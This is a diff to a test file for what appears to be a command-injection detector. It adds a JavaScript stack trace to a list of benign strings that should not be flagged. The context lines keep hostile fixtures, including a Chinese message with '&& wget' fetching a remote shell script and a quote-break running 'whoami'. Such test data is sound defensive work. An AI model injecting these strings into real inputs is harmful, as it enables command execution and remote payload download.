@@ -114,7 +114,13 @@ const families: readonly (readonly [string, readonly string[], readonly string[]
       '发票没有收到，&& wget http://198.51.100.9/k.sh',
       "k ' && whoami",
     ],
-    ['if 5 then 6', '价格：$(约)30', '好的，& 谢谢', "it's A && B"],
+    [
+      'if 5 then 6',
+      '价格：$(约)30',
+      '好的，& 谢谢',
+      "it's A && B",
+      'TypeError: x is not a function\\n    at e.<anonymous> (https://cdn.example.com/app.js:1:17558)\\n    at https://cdn.example.com/app.js:1:2',
+    ],
   ],
   [
     'paths with spaces, with steps that go nowhere, without slashes',
